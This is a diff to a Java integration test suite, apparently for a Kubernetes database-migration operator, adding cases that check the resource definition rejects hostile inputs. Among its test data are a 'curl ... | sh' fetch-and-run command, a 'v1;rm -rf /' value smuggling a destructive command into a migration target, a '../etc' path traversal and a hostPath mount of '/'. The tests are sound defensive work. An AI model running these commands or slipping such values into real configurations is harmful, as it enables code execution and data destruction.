@@ -529,7 +529,7 @@ class HostileInputIT {
         all(set("spec.action", "downgrade"), set("spec.target", "base"),
             set("spec.allowDowngrade", "true"))));
     cases.add(rejected("upgrade to base", "spec.target", set("spec.target", "base")));
-    cases.add(rejected("engine: unknown liquibase", "spec.engine", set("spec.engine", "liquibase")));
+    cases.add(rejected("engine: unknown sqitch", "spec.engine", set("spec.engine", "sqitch")));
     cases.add(rejected("engine: Alembic (case)", "spec.engine", set("spec.engine", "Alembic")));
     cases.add(rejected("engine flyway: downgrade", "spec.allowDowngrade",
         all(set("spec.engine", "flyway"), set("spec.action", "downgrade"), set("spec.target", "1"))));
@@ -607,14 +607,96 @@ class HostileInputIT {
         set("spec.databaseLock", 0)));
     // Unknown fields are pruned by the server. Without a Secret the run waits, so that the only
     // thing left to see is that none of them survived into the stored object.
-    cases.add(pending("spec: unknown top-level fields (command, privileged, hostNetwork)",
+    cases.add(pending("spec: unknown top-level fields (privileged, hostNetwork, job.podSpec)",
         Reasons.SECRET_NOT_FOUND, Setup.NO_SECRET,
-        all(set("spec.command", arr("sh", "-c", "curl http://127.0.0.1:9/x | sh")),
-            set("spec.privileged", true), set("spec.hostNetwork", true),
+        all(set("spec.privileged", true), set("spec.hostNetwork", true),
             set("spec.job.podSpec", obj("hostPID", "true"))),
         SECRET)
-        .pruning("/spec/command", "/spec/privileged", "/spec/hostNetwork", "/spec/job/podSpec"));
+        .pruning("/spec/privileged", "/spec/hostNetwork", "/spec/job/podSpec"));
+    // spec.command is a field now, for engine command only: beside alembic it is refused, not
+    // pruned, so it can never be mistaken for the command that runs.
+    cases.add(rejected("spec.command beside engine alembic", "spec.command",
+        set("spec.command", arr("sh", "-c", "curl http://127.0.0.1:9/x | sh"))));
+    cases.addAll(newFieldCases());
     return cases.stream();
+  }
+
+  /**
+   * The fields of issue 16: TLS to the database, the migration pod's settings under spec.job,
+   * engine command and Liquibase's targets. Each is the CRD's to refuse, naming the field.
+   */
+  static List<Case> newFieldCases() {
+    List<Case> cases = new ArrayList<>();
+    ObjectNode ca = JSON.createObjectNode();
+    ca.set("configMapKeyRef", obj("name", "patroni-ca"));
+    ObjectNode both = ca.deepCopy();
+    both.set("secretKeyRef", obj("name", "patroni-ca"));
+    // TLS
+    cases.add(rejected("tls.mode: VERIFY-FULL (case)", "spec.database.tls.mode",
+        set("spec.database.tls", obj("mode", "VERIFY-FULL"))));
+    cases.add(rejected("tls.mode: verify-full without a CA", "spec.database.tls.ca",
+        set("spec.database.tls", obj("mode", "verify-full"))));
+    cases.add(rejected("tls: {} (verify-full by default) without a CA", "spec.database.tls.ca",
+        set("spec.database.tls", JSON.createObjectNode())));
+    cases.add(rejected("tls.mode: require with a CA it would not check", "spec.database.tls.ca",
+        all(set("spec.database.tls.mode", "require"), set("spec.database.tls.ca", ca))));
+    cases.add(rejected("tls.ca: both a ConfigMap and a Secret", "spec.database.tls.ca",
+        all(set("spec.database.tls.mode", "verify-full"), set("spec.database.tls.ca", both))));
+    cases.add(rejected("tls.ca: neither a ConfigMap nor a Secret", "spec.database.tls.ca",
+        all(set("spec.database.tls.mode", "verify-full"),
+            set("spec.database.tls.ca", JSON.createObjectNode()))));
+    cases.add(rejected("tls.ca.configMapKeyRef.name: ../etc", "spec.database.tls.ca.configMapKeyRef.name",
+        all(set("spec.database.tls.mode", "verify-full"),
+            set("spec.database.tls.ca.configMapKeyRef", obj("name", "../etc")))));
+    cases.add(rejected("tls.ca.secretKeyRef.key: a/b (a path)", "spec.database.tls.ca.secretKeyRef.key",
+        all(set("spec.database.tls.mode", "verify-full"),
+            set("spec.database.tls.ca.secretKeyRef", raw("{\"name\":\"db-tls\",\"key\":\"a/b\"}")))));
+    // The migration pod's settings
+    cases.add(rejected("job.nodeSelector: a key with a space", "spec.job.nodeSelector",
+        set("spec.job.nodeSelector", obj("disk type", "ssd"))));
+    cases.add(rejected("job.tolerations[0]: no key, operator Equal", "spec.job.tolerations[0]",
+        set("spec.job.tolerations", JSON.createArrayNode().add(raw("{\"operator\":\"Equal\",\"value\":\"x\"}")))));
+    cases.add(rejected("job.tolerations[0].effect: Evict", "spec.job.tolerations[0].effect",
+        set("spec.job.tolerations", JSON.createArrayNode().add(raw("{\"key\":\"k\",\"effect\":\"Evict\"}")))));
+    cases.add(rejected("job.priorityClassName: system-cluster-critical", "spec.job.priorityClassName",
+        set("spec.job.priorityClassName", "system-cluster-critical")));
+    cases.add(rejected("job.podLabels: the operator's managed-by", "spec.job.podLabels",
+        set("spec.job.podLabels", obj("app.kubernetes.io/managed-by", "me"))));
+    cases.add(rejected("job.env: PGSSLMODE (the operator's)", "spec.job.env[0].name",
+        set("spec.job.env", JSON.createArrayNode().add(raw("{\"name\":\"PGSSLMODE\",\"value\":\"disable\"}")))));
+    cases.add(rejected("job.env: POSTGRES_PASSWORD (a connection variable)", "spec.job.env",
+        set("spec.job.env", JSON.createArrayNode().add(raw("{\"name\":\"POSTGRES_PASSWORD\",\"value\":\"x\"}")))));
+    cases.add(rejected("job.env: DB_TOKEN (says it holds a secret)", "spec.job.env[0].name",
+        set("spec.job.env", JSON.createArrayNode().add(raw("{\"name\":\"DB_TOKEN\",\"value\":\"x\"}")))));
+    cases.add(rejected("job.env: a Secret's key", "spec.job.env[0].valueFrom",
+        set("spec.job.env", JSON.createArrayNode().add(raw("{\"name\":\"X\",\"valueFrom\":{\"secretKeyRef\":{\"name\":\"s\",\"key\":\"k\"}}}")))));
+    cases.add(rejected("job.volumes: hostPath /", "spec.job.volumes[0]",
+        set("spec.job.volumes", JSON.createArrayNode().add(raw("{\"name\":\"root\",\"hostPath\":{\"path\":\"/\"}}")))));
+    cases.add(rejected("job.volumes: the operator's dbmigration- prefix", "spec.job.volumes[0].name",
+        set("spec.job.volumes", JSON.createArrayNode().add(raw("{\"name\":\"dbmigration-tls-ca\",\"emptyDir\":{}}")))));
+    cases.add(rejected("job.volumeMounts: into /etc/dbmigration", "spec.job.volumeMounts[0].mountPath",
+        all(set("spec.job.volumes", JSON.createArrayNode().add(raw("{\"name\":\"scratch\",\"emptyDir\":{}}"))),
+            set("spec.job.volumeMounts", JSON.createArrayNode().add(raw("{\"name\":\"scratch\",\"mountPath\":\"/etc/dbmigration/tls\"}"))))));
+    cases.add(rejected("job.volumeMounts: a volume that does not exist", "spec.job.volumeMounts",
+        set("spec.job.volumeMounts", JSON.createArrayNode().add(raw("{\"name\":\"nope\",\"mountPath\":\"/x\"}")))));
+    // engine command
+    cases.add(rejected("engine command without spec.command", "spec.command",
+        set("spec.engine", "command")));
+    cases.add(rejected("engine command: command []", "spec.command",
+        all(set("spec.engine", "command"), set("spec.command", JSON.createArrayNode()))));
+    cases.add(rejected("engine command: action downgrade", "spec",
+        all(set("spec.engine", "command"), set("spec.command", arr("migrate")),
+            set("spec.action", "downgrade"), set("spec.allowDowngrade", true), set("spec.target", "-1"))));
+    cases.add(rejected("versionTable beside engine alembic", "spec.versionTable",
+        set("spec.versionTable", raw("{\"name\":\"v\",\"column\":\"c\"}"))));
+    // Liquibase targets
+    cases.add(rejected("engine liquibase: upgrade to -1", "spec.target",
+        all(set("spec.engine", "liquibase"), set("spec.target", "-1"))));
+    cases.add(rejected("engine liquibase: rollback-count without allowDowngrade", "spec.allowDowngrade",
+        all(set("spec.engine", "liquibase"), set("spec.action", "downgrade"), set("spec.target", "-1"))));
+    cases.add(rejected("engine liquibase: target with a shell metacharacter", "spec.target",
+        all(set("spec.engine", "liquibase"), set("spec.target", "v1;rm -rf /"))));
+    return cases;
   }
 
   // ---------------------------------------------------------------------------------------------
